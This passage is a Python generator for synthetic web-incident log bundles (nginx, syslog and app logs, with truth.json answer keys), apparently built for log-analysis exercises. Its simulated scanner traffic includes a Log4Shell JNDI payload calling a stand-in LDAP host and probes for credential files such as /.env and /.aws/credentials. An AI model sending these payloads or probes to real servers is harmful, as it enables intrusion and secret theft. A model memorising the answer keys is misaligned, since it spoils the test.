#!/usr/bin/env python3
"""Write the sample incident bundles under sample_logs/ (stdlib only, seeded, deterministic).

    python3 sample_logs/make_bundles.py            # rewrite every bundle
    python3 sample_logs/make_bundles.py oom-kill   # rewrite one

Each bundle is a folder of realistic log files (nginx access/error, syslog, application logs),
a README.md that says in plain words what happened, and a truth.json with the true answers. All
counts in truth.json and the READMEs are computed here from the lines actually written, never
typed in by hand. Running the script twice gives byte-identical files (the .gz header has mtime 0).

Every name, address and company is made up: clients come from the documentation ranges
203.0.113.0/24, 198.51.100.0/24, 192.0.2.0/24 and 2001:db8::/32, hosts are on private 10/8
addresses, domains end in `.example`.
"""

from __future__ import annotations

import bisect
import datetime as dt
import gzip
import heapq
import json
import math
import random
import re
import shutil
import sys
import uuid
from pathlib import Path

HERE = Path(__file__).resolve().parent
UTC = dt.timezone.utc
MONTHS = "Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split()

# --------------------------------------------------------------------------------------------
# Time: every instant is an int of milliseconds since the epoch (UTC); offsets are in minutes.
# --------------------------------------------------------------------------------------------


def at(hms: str, day: tuple[int, int, int] = (2024, 3, 14)) -> int:
    """`02:31:07` or `02:31:07.250` on `day` (UTC) as epoch milliseconds."""
    whole, _, frac = hms.partition(".")
    h, m, s = (int(x) for x in whole.split(":"))
    base = dt.datetime(*day, h, m, s, tzinfo=UTC)
    return int(base.timestamp()) * 1000 + (int(frac.ljust(3, "0")) if frac else 0)


def _local(t: int, off: int) -> dt.datetime:
    return dt.datetime.fromtimestamp(t // 1000 + off * 60, UTC)


def fmt_clf(t: int, off: int = 0) -> str:
    d = _local(t, off)
    sign = "+" if off >= 0 else "-"
    return (
        f"{d.day:02d}/{MONTHS[d.month - 1]}/{d.year}:{d:%H:%M:%S} "
        f"{sign}{abs(off) // 60:02d}{abs(off) % 60:02d}"
    )


def fmt_nginx_error(t: int, off: int = 0) -> str:
    return _local(t, off).strftime("%Y/%m/%d %H:%M:%S")


def fmt_syslog(t: int, off: int = 0) -> str:
    d = _local(t, off)
    return f"{MONTHS[d.month - 1]} {d.day:2d} {d:%H:%M:%S}"


def fmt_iso_ms(t: int) -> str:
    return f"{_local(t, 0):%Y-%m-%dT%H:%M:%S}.{t % 1000:03d}Z"


def fmt_python(t: int, off: int = 0) -> str:
    return f"{_local(t, off):%Y-%m-%d %H:%M:%S},{t % 1000:03d}"


def fmt_rfc3339(t: int) -> str:
    return f"{_local(t, 0):%Y-%m-%dT%H:%M:%S}Z"


def fmt_hm(t: int, off: int = 0) -> str:
    return f"{_local(t, off):%H:%M:%S}"


def second(t: int) -> int:
    """The instant as a log with one-second resolution shows it."""
    return t - t % 1000


# --------------------------------------------------------------------------------------------
# Randomness helpers
# --------------------------------------------------------------------------------------------


def poisson(rng: random.Random, lam: float) -> int:
    if lam <= 0:
        return 0
    limit, k, p = math.exp(-lam), 0, 1.0
    while True:
        p *= rng.random()
        if p <= limit:
            return k
        k += 1


def weighted(rng: random.Random, table):
    """One item of [(weight, item), ...]."""
    total = sum(w for w, _ in table)
    x = rng.random() * total
    for w, item in table:
        x -= w
        if x < 0:
            return item
    return table[-1][1]


def request_id(rng: random.Random) -> str:
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def short_hex(rng: random.Random, n: int = 16) -> str:
    return f"{rng.getrandbits(4 * n):0{n}x}"


class MinuteNoise:
    """A slowly varying multiplier (one value per minute, smoothed), from its own generator."""

    def __init__(self, seed: str, spread: float = 0.12):
        self.rng = random.Random(seed)
        self.spread = spread
        self.cache: dict[int, float] = {}

    def _raw(self, minute: int) -> float:
        if minute not in self.cache:
            self.cache[minute] = 1 + self.rng.uniform(-self.spread, self.spread)
        return self.cache[minute]

    def __call__(self, t: int) -> float:
        minute, frac = divmod(t / 60000, 1)
        a, b = self._raw(int(minute)), self._raw(int(minute) + 1)
        return a + (b - a) * frac


def arrivals(rng: random.Random, start: int, end: int, rate) -> list[int]:
    """Poisson arrivals (ms) with `rate(t)` requests per second."""
    out = []
    for sec in range(start // 1000, end // 1000):
        for _ in range(poisson(rng, rate(sec * 1000))):
            out.append(sec * 1000 + rng.randrange(1000))
    out.sort()
    return out


# --------------------------------------------------------------------------------------------
# Clients
# --------------------------------------------------------------------------------------------

BROWSERS = [
    (22, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36"),
    (6, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36"),
    (9, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36"),
    (8, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3.1 Safari/605.1.15"),
    (18, "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3.1 Mobile/15E148 Safari/604.1"),
    (4, "Mozilla/5.0 (iPhone; CPU iPhone OS 16_7_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Mobile/15E148 Safari/604.1"),
    (12, "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Mobile Safari/537.36"),
    (3, "Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36"),
    (5, "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:123.0) Gecko/20100101 Firefox/123.0"),
    (1, "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0"),
    (1, "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36"),
    (5, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36 Edg/122.0.0.0"),
    (3, "Mozilla/5.0 (iPad; CPU OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1"),
    (2, "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Instagram 321.0.2.20.108 (iPhone14,5; iOS 17_3_1; en_US; en; scale=3.00; 1170x2532; 565470867)"),
]  # fmt: skip

BOTS = [
    (5, "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
    (3, "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36"),
    (2, "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"),
    (1, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)"),
]  # fmt: skip

SCANNER_UAS = [
    "Mozilla/5.0 zgrab/0.x",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "curl/7.81.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "${jndi:ldap://198.51.100.66:1389/Exploit}",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:77.0) Gecko/20100101 Firefox/77.0",
]  # fmt: skip

SCAN_PATHS = [
    ("GET", "/wp-login.php"), ("GET", "/.env"), ("GET", "/.git/config"), ("GET", "/wp-admin/setup-config.php"),
    ("GET", "/phpmyadmin/index.php"), ("GET", "/admin/.env"), ("GET", "/.aws/credentials"),
    ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"), ("GET", "/cgi-bin/luci/;stok=/locale"),
    ("GET", "/server-status"), ("POST", "/boaform/admin/formLogin"), ("GET", "/owa/auth/logon.aspx"),
    ("GET", "/config.json"), ("GET", "/HNAP1/"), ("GET", "/xmlrpc.php"), ("GET", "/.DS_Store"),
    ("GET", "/actuator/env"), ("GET", "/?XDEBUG_SESSION_START=phpstorm"), ("GET", "/backup.zip"),
]  # fmt: skip

_RESERVED_HOSTS = {"192.0.2.10", "192.0.2.11", "192.0.2.20", "192.0.2.30", "192.0.2.40"}


def doc_ips(rng: random.Random) -> list[str]:
    ips = [
        f"{net}.{h}"
        for net in ("203.0.113", "198.51.100", "192.0.2")
        for h in range(2, 255)
        if f"{net}.{h}" not in _RESERVED_HOSTS
    ]
    rng.shuffle(ips)
    return ips


class Client:
    __slots__ = ("ip", "ua", "weight", "proto", "logged_in")

    def __init__(self, ip, ua, weight, proto, logged_in=False):
        self.ip, self.ua, self.weight, self.proto, self.logged_in = ip, ua, weight, proto, logged_in


class Population:
    """Browsers (Pareto-weighted: a few heavy users, a long tail), bots and scanners."""

    def __init__(self, rng: random.Random, n: int, uas=BROWSERS, ipv6_share: float = 0.0):
        pool = doc_ips(rng)
        self.rng = rng
        self.clients = []
        for i in range(n):
            if rng.random() < ipv6_share:
                ip = f"2001:db8:{rng.randrange(0x1000, 0xffff):x}:{rng.randrange(0x10, 0xfff):x}::{rng.randrange(1, 0xffff):x}"
            else:
                ip = pool[i % len(pool)]
            ua = weighted(rng, uas)
            proto = "HTTP/2.0" if rng.random() < 0.72 else "HTTP/1.1"
            self.clients.append(Client(ip, ua, rng.paretovariate(1.4), proto, rng.random() < 0.4))
        self.cum = []
        total = 0.0
        for c in self.clients:
            total += c.weight
            self.cum.append(total)
        self.total = total
        self.bots = [Client(pool[-(i + 1)], weighted(rng, BOTS), 1, "HTTP/1.1") for i in range(12)]
        self.scanners = [
            Client(pool[-(i + 20)], rng.choice(SCANNER_UAS), 1, "HTTP/1.1") for i in range(30)
        ]

    def pick(self) -> Client:
        return self.clients[bisect.bisect_left(self.cum, self.rng.random() * self.total)]


# --------------------------------------------------------------------------------------------
# Output: files are lists of (t, seq, text, mark), sorted by time when written.
# --------------------------------------------------------------------------------------------


class Req:
    """One access-log line: `t` is when it completed (nginx's $time_local), `arr` when it began."""

    __slots__ = (
        "t", "arr", "ip", "method", "path", "proto", "status", "bytes", "ref", "ua", "urt", "file",
        "kind",
    )  # fmt: skip

    def __init__(self, arr, client, method, path, *, ref="-", kind=""):
        self.arr = self.t = arr
        self.ip, self.ua, self.proto = client.ip, client.ua, client.proto
        self.method, self.path, self.ref, self.kind = method, path, ref, kind
        self.status, self.bytes, self.urt, self.file = 200, 0, None, None

    @property
    def rt(self) -> float:
        return (self.t - self.arr) / 1000

    def line(self, off: int = 0, timed: bool = False) -> str:
        s = (
            f'{self.ip} - - [{fmt_clf(self.t, off)}] "{self.method} {self.path} {self.proto}" '
            f'{self.status} {self.bytes} "{self.ref}" "{self.ua}"'
        )
        if timed:
            urt = "-" if self.urt is None else f"{self.urt:.3f}"
            s += f" {self.rt:.3f} {urt}"
        return s


class Bundle:
    def __init__(self, name: str):
        self.name = name
        self.files: dict[str, list] = {}
        self.seq = 0
        self.marks: dict[str, tuple[str, int, str]] = {}
        self.requests: list[Req] = []
        self.access_files: set[str] = set()
        self.describe: dict[str, str] = {}  # README wording for files that differ from the usual

    def add(self, path: str, t: int, text: str, mark: str | None = None, mark_text: str = ""):
        self.files.setdefault(path, []).append((t, self.seq, text, mark, mark_text))
        self.seq += 1

    def request(self, path: str, req: Req, off: int = 0, timed: bool = False):
        req.file = path
        self.requests.append(req)
        self.access_files.add(path)
        self.add(path, req.t, req.line(off, timed))

    def write(self) -> dict[str, int]:
        root = HERE / self.name
        if root.exists():
            shutil.rmtree(root)
        counts = {}
        for path in sorted(self.files):
            entries = sorted(self.files[path], key=lambda e: (e[0], e[1]))
            lines: list[str] = []
            for _t, _seq, text, mark, mark_text in entries:
                if mark and mark not in self.marks:
                    self.marks[mark] = (path, len(lines) + 1, mark_text)
                lines.extend(text.split("\n"))
            data = ("\n".join(lines) + "\n").encode("utf-8")
            target = root / path
            target.parent.mkdir(parents=True, exist_ok=True)
            if path.endswith(".gz"):
                with open(target, "wb") as raw, gzip.GzipFile(
                    filename=Path(path).name[:-3], mode="wb", fileobj=raw, mtime=0, compresslevel=9
                ) as gz:
                    gz.write(data)
            else:
                target.write_bytes(data)
            counts[path] = len(lines)
        return counts


def cause(bundle: Bundle, mark: str | None):
    if mark is None:
        return None
    path, line, text = bundle.marks[mark]
    return {"file": path, "line": line, "text": text}


def make_truth(bundle: Bundle, window, root, trigger, resolution, summary) -> dict:
    failed_total = sum(1 for r in bundle.requests if r.status >= 500)
    if window is None:
        failed = in_window = 0
        win = None
    else:
        start, end = window
        inside = [r for r in bundle.requests if start <= second(r.t) < end]
        failed = sum(1 for r in inside if r.status >= 500)
        in_window = len(inside)
        win = {"start": fmt_rfc3339(start), "end": fmt_rfc3339(end)}
    return {
        "bundle": bundle.name,
        "incident": window is not None,
        "window": win,
        "failed_requests": failed,
        "failed_requests_total": failed_total,
        "requests_in_window": in_window,
        "root_cause": cause(bundle, root),
        "trigger": cause(bundle, trigger),
        "resolution": cause(bundle, resolution),
        "summary": summary,
    }


def finish(bundle: Bundle, window, root, trigger, resolution, summary, readme, extra=None) -> dict:
    """Write the logs, then truth.json and README.md computed from what was written.

    `extra(bundle)`, if given, returns more truth.json keys, computed after the logs are written.
    """
    counts = bundle.write()
    truth = make_truth(bundle, window, root, trigger, resolution, summary)
    if extra is not None:
        truth.update(extra(bundle))
    root_dir = HERE / bundle.name
    (root_dir / "truth.json").write_text(json.dumps(truth, indent=2) + "\n", encoding="utf-8")
    stats = {"name": bundle.name, "truth": truth, "lines": counts, "bytes": 0, "describe": bundle.describe}
    (root_dir / "README.md").write_text(readme(stats, bundle).rstrip() + "\n", encoding="utf-8")
    stats["bytes"] = sum(p.stat().st_size for p in root_dir.rglob("*") if p.is_file())
    return stats


# --------------------------------------------------------------------------------------------
# Line builders
# --------------------------------------------------------------------------------------------


def syslog(t: int, host: str, tag: str, msg: str, off: int = 0) -> str:
    return f"{fmt_syslog(t, off)} {host} {tag}: {msg}"


class Kernel:
    """Kernel lines carry the uptime in brackets, as rsyslog's imklog writes them."""

    def __init__(self, boot: int):
        self.boot = boot

    def __call__(self, t: int, host: str, msg: str, off: int = 0, extra_us: int = 0) -> str:
        up = (t - self.boot) * 1000 + extra_us
        return syslog(t, host, "kernel", f"[{up // 1_000_000:>7d}.{up % 1_000_000:06d}] {msg}", off)


def nginx_error(t, level, wpid, cid, msg, *, client, server, request=None, upstream=None,
                host=None, off=0) -> str:  # fmt: skip
    s = f"{fmt_nginx_error(t, off)} [{level}] {wpid}#{wpid}: *{cid} {msg}, client: {client}, server: {server}"
    if request:
        s += f', request: "{request}"'
    if upstream:
        s += f', upstream: "{upstream}"'
    if host:
        s += f', host: "{host}"'
    return s


def jline(t: int, level: str, service: str, msg: str, **extra) -> str:
    obj = {"ts": fmt_iso_ms(t), "level": level, "service": service, "msg": msg}
    obj.update({k: v for k, v in extra.items() if v is not None})
    return json.dumps(obj, separators=(",", ":"), ensure_ascii=False)


class Conn:
    """nginx worker pids and connection numbers (`1187#1187: *884213`), increasing with time."""

    def __init__(self, rng, pids, first):
        self.rng, self.pids, self.n = rng, pids, first
        self.times: list[int] = []
        self.numbers: list[int] = []

    def next(self, t: int | None = None):
        self.n += self.rng.choice((1, 1, 1, 2, 3))
        if t is not None:
            self.times.append(t)
            self.numbers.append(self.n)
        return self.rng.choice(self.pids), self.n

    def near(self, t: int):
        """A connection number that fits in time order, for lines added after the traffic."""
        i = bisect.bisect_left(self.times, t)
        n = self.numbers[min(i, len(self.numbers) - 1)] if self.numbers else self.n
        return self.rng.choice(self.pids), n + 1


def scanner_bursts(rng, pop, start, end, every_s=900):
    """A scanner shows up now and then and tries a handful of paths within seconds."""
    out = []
    t = start + rng.randrange(60_000, every_s * 1000)
    while t < end:
        who = rng.choice(pop.scanners)
        for method, path in rng.sample(SCAN_PATHS, rng.randrange(2, 7)):
            out.append((t, who, method, path))
            t += rng.randrange(150, 2500)
        t += int(rng.expovariate(1 / (every_s * 1000)))
    return [x for x in out if x[0] < end]


def scan_outcome(req: Req, rng):
    """Dotfiles are denied by nginx (`location ~ /\\.`), everything else is a 404."""
    if "/." in req.path:
        req.status, req.bytes = 403, 153
        return "access forbidden by rule"
    req.status, req.bytes = 404, rng.choice((153, 146, 555))
    return None


def buffered_warning(b, errlog, t, conn, rng, ip, domain, upstream, off=0):
    wpid, cid = conn.near(t)
    path = f"/category/{rng.choice(CATEGORIES)}?page=2"
    tmp = f"/var/cache/nginx/proxy_temp/{rng.randrange(1, 9)}/{rng.randrange(10, 99)}/00000{rng.randrange(10000, 99999)}"
    b.add(errlog, t, nginx_error(t, "warn", wpid, cid, f"an upstream response is buffered to a temporary file {tmp} while reading upstream",
                                 client=ip, server=domain, request=f"GET {path} HTTP/2.0", upstream=upstream + path,
                                 host=domain, off=off))  # fmt: skip


TLS_PROBE = r"\x16\x03\x01\x00\xF7\x01\x00\x00\xF3\x03\x03\xB3\xA1J\x84\xE2\x9B"


# ============================================================================================
# Shop traffic (checkout-outage and quiet-day)
# ============================================================================================

CATEGORIES = ["linen", "ceramics", "candles", "kitchen", "garden", "lighting", "textiles",
              "stationery", "gifts", "sale", "bath", "rugs"]  # fmt: skip
SEARCHES = ["linen+throw", "mug", "vase", "soy+candle", "tea+towel", "planter", "desk+lamp",
            "notebook", "gift+card", "wool+blanket", "serving+bowl", "napkins"]  # fmt: skip
STATIC = ["/static/js/app.4f1c2a9e.js", "/static/js/vendor.91be77d0.js",
          "/static/css/main.b7e1c3d2.css", "/static/fonts/inter-var.woff2", "/favicon.ico",
          "/static/img/logo.svg"]  # fmt: skip
EXTERNAL_REFS = [(6, "-"), (5, "https://www.google.com/"), (1, "https://www.bing.com/"),
                 (2, "https://l.instagram.com/"), (1, "https://www.pinterest.com/"),
                 (1, "https://duckduckgo.com/")]  # fmt: skip


class Shop:
    def __init__(self, rng, domain, products):
        self.rng, self.domain = rng, domain
        self.products = products  # [(weight, id)]

    def product(self):
        return weighted(self.rng, self.products)

    def request(self, client, arr, campaign=0.0):
        """A request a shopper's browser makes; kind tells where nginx sends it."""
        rng, d = self.rng, f"https://{self.domain}"
        kind = weighted(rng, [
            (12, "home"), (23, "product"), (6, "category"), (4, "search"), (3, "cart_page"),
            (2, "checkout_page"), (7, "static"), (28, "api_cart"), (8, "api_cart_add"),
            (1, "api_cart_del"), (4, "api_checkout"), (3, "api_shipping"),
        ])  # fmt: skip
        pid = self.product()
        page_ref = rng.choice([f"{d}/", f"{d}/products/{self.product()}", f"{d}/category/{rng.choice(CATEGORIES)}"])
        if kind == "home":
            ref = weighted(rng, EXTERNAL_REFS)
            path = "/"
            if campaign and rng.random() < campaign:
                path, ref = "/?utm_source=newsletter&utm_medium=email&utm_campaign=spring-sale", "-"
            return Req(arr, client, "GET", path, ref=ref, kind="page")
        if kind == "product":
            path = f"/products/{pid}"
            ref = page_ref if rng.random() < 0.7 else weighted(rng, EXTERNAL_REFS)
            if campaign and rng.random() < campaign:
                path += "?utm_source=newsletter&utm_medium=email&utm_campaign=spring-sale"
                ref = "-"
            return Req(arr, client, "GET", path, ref=ref, kind="page")
        if kind == "category":
            path = f"/category/{rng.choice(CATEGORIES)}" + ("?page=2" if rng.random() < 0.2 else "")
            return Req(arr, client, "GET", path, ref=f"{d}/", kind="page")
        if kind == "search":
            return Req(arr, client, "GET", f"/search?q={rng.choice(SEARCHES)}", ref=page_ref, kind="page")
        if kind == "cart_page":
            return Req(arr, client, "GET", "/cart", ref=page_ref, kind="page")
        if kind == "checkout_page":
            return Req(arr, client, "GET", "/checkout", ref=f"{d}/cart", kind="page")
        if kind == "static":
            path = rng.choice(STATIC + [f"/static/img/products/{pid}-640.webp"] * 3)
            return Req(arr, client, "GET", path, ref=page_ref, kind="static")
        if kind == "api_cart":
            return Req(arr, client, "GET", "/api/cart", ref=page_ref, kind="api_cart")
        if kind == "api_cart_add":
            return Req(arr, client, "POST", "/api/cart/items", ref=f"{d}/products/{pid}", kind="api_cart_add")
        if kind == "api_cart_del":
            return Req(arr, client, "DELETE", f"/api/cart/items/{rng.randrange(100000, 999999)}",
                       ref=f"{d}/cart", kind="api_cart_del")  # fmt: skip
        if kind == "api_checkout":
            return Req(arr, client, "POST", "/api/checkout", ref=f"{d}/checkout", kind="api_checkout")
        return Req(arr, client, "GET", "/api/checkout/shipping-options?country=US", ref=f"{d}/checkout",
                   kind="api_shipping")  # fmt: skip

    def ok(self, req: Req):
        """Healthy outcome: status, bytes and completion time."""
        rng = self.rng
        k = req.kind
        if k == "page":
            req.status = 404 if (req.path.startswith("/products/") and rng.random() < 0.012) else 200
            req.bytes = rng.randrange(16000, 62000) if req.status == 200 else rng.randrange(9000, 9800)
            req.t = req.arr + int(rng.lognormvariate(math.log(60), 0.5))
        elif k == "static":
            if rng.random() < 0.3:
                req.status, req.bytes = 304, 0
            else:
                req.bytes = rng.randrange(1200, 240000)
            req.t = req.arr + rng.randrange(0, 6)
        elif k == "api_cart":
            req.bytes = rng.randrange(180, 2600)
            req.t = req.arr + int(rng.lognormvariate(math.log(28), 0.45))
        elif k == "api_cart_add":
            req.status, req.bytes = 201, rng.randrange(300, 2900)
            req.t = req.arr + int(rng.lognormvariate(math.log(45), 0.45))
        elif k == "api_cart_del":
            req.status, req.bytes = 204, 0
            req.t = req.arr + int(rng.lognormvariate(math.log(35), 0.4))
        elif k == "api_checkout":
            req.status = weighted(rng, [(94, 200), (4, 402), (2, 422)])
            req.bytes = rng.randrange(480, 900) if req.status == 200 else rng.randrange(90, 160)
            req.t = req.arr + int(rng.lognormvariate(math.log(420), 0.35))
        else:
            req.bytes = rng.randrange(350, 700)
            req.t = req.arr + int(rng.lognormvariate(math.log(40), 0.4))
        return req


def shop_products(rng):
    ids = rng.sample(range(1001, 9999), 420)
    return [(1 / (i + 3) ** 0.9, pid) for i, pid in enumerate(ids)]


def bots_and_monitors(rng, pop, start, end, domain, shop_like=True):
    """Crawler hits (~1 per 25 s) as (arr, client, method, path)."""
    out = []
    for arr in arrivals(rng, start, end, lambda t: 0.04):
        bot = rng.choice(pop.bots)
        if rng.random() < 0.08:
            path = "/robots.txt"
        elif shop_like and rng.random() < 0.15:
            path = "/sitemap.xml"
        else:
            path = None
        out.append((arr, bot, "GET", path))
    return out


# ============================================================================================
# 1. checkout-outage
# ============================================================================================


def checkout_outage() -> dict:
    name = "checkout-outage"
    rng = random.Random(1403_2024)
    noise = MinuteNoise(f"{name}-noise")
    b = Bundle(name)
    start, end = at("00:00:00"), at("04:00:00")
    w0, w1 = at("02:31:00"), at("03:09:00")
    deploy, rollback, email = at("02:24:08"), at("03:07:02"), at("02:29:40")
    reload_steps = [at("03:07:06"), at("03:07:34"), at("03:08:02"), at("03:08:30"), at("03:08:58")]
    domain, web, app = "shop.example", "web-1", "app-1"
    upstream_app, upstream_store = "http://10.0.2.15:8080", "http://10.0.2.10:3000"
    pop = Population(rng, 700, ipv6_share=0.05)
    shop = Shop(rng, domain, shop_products(rng))
    conn = Conn(rng, [1187, 1188, 1189, 1190], 884_210)
    kern = Kernel(at("00:00:00") - 1_843_211_417)
    access = "web-1/nginx/access.log"
    errlog = "web-1/nginx/error.log"
    sysl = "web-1/syslog"
    applog = "app-1/checkout.jsonl"
    rot1, rot2 = at("02:00:01"), at("03:00:01")

    def access_path(t):
        return access + (".2.gz" if t < rot1 else ".1" if t < rot2 else "")

    def campaign(t):
        if t < email:
            return 0.0
        x = (t - email) / 60000
        return min(1.0, x / 4) * math.exp(-max(0.0, x - 4) / 35)

    def rate(t):
        h = (t - start) / 3.6e6
        base = 1.75 - 0.2 * h
        return base * (1 + 0.07 * math.sin(h * 4.1)) * noise(t) * (1 + 0.5 * campaign(t))

    def p_fail(done):
        """Share of checkout-service requests that fail, by when they would complete."""
        if done < w0 + 300 or done >= reload_steps[-1]:
            return 0.0
        if done < w0 + 100_000:
            return 0.3 + 0.62 * (done - w0) / 100_000
        old = sum(1 for s in reload_steps[:-1] if done < s)  # old workers still serving
        if done >= reload_steps[0]:
            return 0.92 * (old + 0.5) / 4
        return 0.92

    def waiting(t):
        x = (t - w0) / 60000
        return int(18 + 22 * min(1, x / 3) + 9 * math.sin(x / 2.3) + rng.randrange(-4, 5))

    api_kinds = {"api_cart", "api_cart_add", "api_cart_del", "api_checkout", "api_shipping"}
    heap = []
    seq = 0
    for arr in arrivals(rng, start, end, rate):
        heap.append((arr, seq, ("shop", pop.pick(), 0, None)))
        seq += 1
    for arr, who, method, path in scanner_bursts(rng, pop, start, end, every_s=700):
        heap.append((arr, seq, ("scan", who, method, path)))
        seq += 1
    for arr, who, method, path in bots_and_monitors(rng, pop, start, end, domain):
        heap.append((arr, seq, ("bot", who, method, path)))
        seq += 1
    monitor = Client("198.51.100.200", "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", 1, "HTTP/1.1")  # fmt: skip
    for arr in range(start + 17_000, end, 300_000):
        heap.append((arr + rng.randrange(0, 900), seq, ("monitor", monitor, "HEAD", "/")))
        seq += 1
    heap.append((at("00:52:18.412"), seq, ("tls", pop.scanners[3], None, None)))
    seq += 1
    heap.append((at("02:30:55.188"), seq, ("first", pop.pick(), 0, None)))
    seq += 1
    heap.append((at("03:08:47.390"), seq, ("last", pop.pick(), 0, None)))
    seq += 1
    lone_500 = {at("00:41:27.301"): "payment", at("03:46:12.877"): "cart"}
    for t0 in lone_500:
        heap.append((t0, seq, ("lone", pop.pick(), 0, None)))
        seq += 1
    heapq.heapify(heap)

    while heap:
        arr, _, (src, who, attempt, spec) = heapq.heappop(heap)
        wpid, cid = conn.next(arr)
        if src in ("scan", "bot", "monitor", "tls"):
            if src == "tls":
                r = Req(arr, who, "", "", kind="tls")
                r.status, r.bytes, r.t = 400, 157, arr + 2
                line = f'{who.ip} - - [{fmt_clf(r.t)}] "{TLS_PROBE}" 400 157 "-" "-"'
                r.file = access_path(r.t)
                b.requests.append(r)
                b.add(r.file, r.t, line)
                continue
            method, path = attempt, spec
            if src == "bot" and path is None:
                path = rng.choice([f"/products/{shop.product()}", f"/category/{rng.choice(CATEGORIES)}", "/"])
            r = Req(arr, who, method, path, kind=src)
            r.t = arr + rng.randrange(1, 80)
            if src == "scan":
                msg = scan_outcome(r, rng)
                if msg:
                    b.add(errlog, r.t, nginx_error(r.t, "error", wpid, cid, msg, client=who.ip, server=domain,
                                                   request=f"{method} {path} {who.proto}", host="192.0.2.10"))  # fmt: skip
            elif src == "monitor":
                r.status, r.bytes = 200, 0
            else:
                r.status, r.bytes = 200, rng.randrange(2000, 60000)
            b.request(access_path(r.t), r)
            continue

        if src in ("shop", "first", "last", "lone") and spec is None:
            r = shop.request(who, arr, campaign(arr))
            if src in ("first", "last", "lone"):
                r = Req(arr, who, "POST", "/api/checkout", ref=f"https://{domain}/checkout", kind="api_checkout")
                if lone_500.get(arr) == "cart":
                    r = Req(arr, who, "GET", "/api/cart", ref=f"https://{domain}/cart", kind="api_cart")
        else:
            r = Req(arr, who, spec[0], spec[1], ref=spec[2], kind=spec[3])
        rid = request_id(rng)

        failed = None
        if r.kind in api_kinds:
            kind504 = rng.random() < 0.62
            done = arr + (10_000 + rng.randrange(0, 4) if kind504 else 5_000 + rng.randrange(3, 60))
            if src == "first":
                kind504, done = False, arr + 5_021
            if src == "last":
                kind504, done = True, arr + 10_002
            if src in ("first", "last") or rng.random() < p_fail(done):
                failed = "504" if kind504 else "502"
                r.t = done
        if src == "lone":
            failed = "500"

        if failed is None:
            shop.ok(r)
            if r.kind == "api_checkout" and r.status == 200:
                order = f"LG-{rng.randrange(100000, 999999)}"
                items = rng.randrange(1, 6)
                amount = rng.randrange(1800, 32000) / 100
                b.add(applog, r.t - 1, jline(r.t - 1, "info", "checkout", f"order {order} placed ({items} items, {amount:.2f} USD)",
                                             request_id=rid, path=r.path, duration_ms=r.t - arr - 1, order_id=order))  # fmt: skip
                if rng.random() < 0.02:
                    b.add(applog, r.t - 40, jline(r.t - 40, "warning", "checkout", f"payment provider slow: authorize took {rng.randrange(1900, 4200)} ms",
                                                  request_id=rid, path=r.path))  # fmt: skip
            elif r.kind == "api_checkout" and r.status == 402:
                b.add(applog, r.t - 1, jline(r.t - 1, "info", "checkout", "payment declined by provider (card_declined)",
                                             request_id=rid, path=r.path, duration_ms=r.t - arr - 1))  # fmt: skip
            elif r.kind == "api_cart_add" and rng.random() < 0.015:
                b.add(applog, r.t - 1, jline(r.t - 1, "warning", "checkout", f"cart item {shop.product()} is out of stock, quantity capped at 0",
                                             request_id=rid, path=r.path))  # fmt: skip
        elif failed == "500":
            r.status, r.bytes = 500, 52
            r.t = arr + rng.randrange(300, 900)
            if lone_500[arr] == "payment":
                msg = "unhandled error in checkout: PaymentProviderError: upstream returned HTTP 500 (authorize)"
                exc = ("Traceback (most recent call last):\n"
                       '  File "/srv/checkout/checkout/api/orders.py", line 141, in create_checkout\n'
                       "    auth = payments.authorize(cart.total, token=body.payment_token)\n"
                       '  File "/srv/checkout/checkout/payments.py", line 77, in authorize\n'
                       "    raise PaymentProviderError(f\"upstream returned HTTP {resp.status_code} (authorize)\")\n"
